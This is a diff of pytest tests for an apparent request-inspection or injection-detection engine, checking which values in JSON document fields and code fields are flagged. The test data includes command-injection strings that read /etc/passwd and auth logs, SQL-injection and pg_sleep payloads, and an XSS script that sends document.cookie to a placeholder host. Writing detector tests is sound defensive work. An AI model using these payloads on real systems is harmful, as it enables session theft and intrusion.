@@ -109,7 +109,66 @@ def test_a_program_of_one_s_own_is_sent_back_to_this_machine(standard: Logic) ->
     assert judged(b"image_url", b"http://127.0.0.1:8400/callback")
 
 
-@pytest.mark.parametrize("unit", [b"a\n", b"'", b"'a' ", b"<p>", b"curl ", b"From: a\n", b"\n\n", b"it's "])
+_TREES = [
+    b"json.doc.content.array_0.content.array_3.text",
+    b"json.root.children.array_1.children.array_0.text",
+    b"json.ops.array_4.insert",
+    b"json.blocks.array_2.data.code",
+    b"wpTextbox1",
+]
+
+
+@pytest.mark.parametrize("name", _TREES)
+@pytest.mark.parametrize(
+    "text", [b"grep -r a src | wc -l", b"<script src='/a.js'></script>", b"b.on('x', () => alert(1))"]
+)
+def test_leaves_of_documents_are_shown(standard: Logic, advanced: Logic, name: bytes, text: bytes) -> None:
+    assert standard.judge([Value("body", name, text)]) == []
+    assert advanced.judge([Value("body", name, text)])
+    assert standard.judge([Value("body", b"json.items.array_0.text", text)])
+
+
+@pytest.mark.parametrize("name", _TREES)
+@pytest.mark.parametrize(
+    "text", [b"; cat /etc/passwd", b"<script>new Image().src='//a.example/'+document.cookie</script>"]
+)
+def test_what_reaches_out_is_refused_in_leaves_too(standard: Logic, name: bytes, text: bytes) -> None:
+    assert standard.judge([Value("body", name, text)])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        b"import os\n!ls -la /content\nd = pd.read_sql(\"SELECT * FROM t WHERE a = 'x'\", con)\nprint(os.popen('uname -a').read())",
+        b'#include <stdio.h>\nint main(void) {\n  system("ls");\n  printf("%s\\n", getenv("PATH"));\n}\n',
+        b"for i in range(3):\n    print(eval(f'{i}+1'), end='; ')\nopen('/tmp/x','w').write('a')\n",
+        b"apt-get update; apt-get install -y nginx; systemctl restart nginx",
+        b'docker run --rm -v $(pwd):/app -p 8080:80 node:20 sh -c "npm i && npm start"',
+        b"SELECT name FROM world WHERE population > 200000000 AND name LIKE '%a%' ORDER BY name",
+    ],
+)
+def test_programs_close_their_strings_and_pastes_begin_with_a_tool(standard: Logic, text: bytes) -> None:
+    assert standard.judge([Value("body", b"code", text)]) == []
+    assert standard.judge([Value("body", b"solution", text)]) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        b"a text\nof lines\n\"x' OR 'a'='a' -- \"",
+        b'a text\nof lines\n"; alert(document.domain); "',
+        b"a text\nof lines\n'; select pg_sleep(5); '",
+        b"docker; cat /var/log/auth.log; id",
+        b"; docker ps; id; uname -a; whoami; hostname",
+    ],
+)
+def test_strings_that_go_on_are_refused_there(standard: Logic, text: bytes) -> None:
+    assert standard.judge([Value("body", b"code", text)])
+
+
+@pytest.mark.parametrize(
+    "unit", [b"a\n", b"'", b"'a' ", b"<p>", b"curl ", b"From: a\n", b"\n\n", b"it's ", b"'\\", b"\"'", b"';"]
+)
 def test_time_is_linear(unit: bytes) -> None:
     facts = frozenset(("sql.having", "shell.only_command", "http.mail_header"))
 
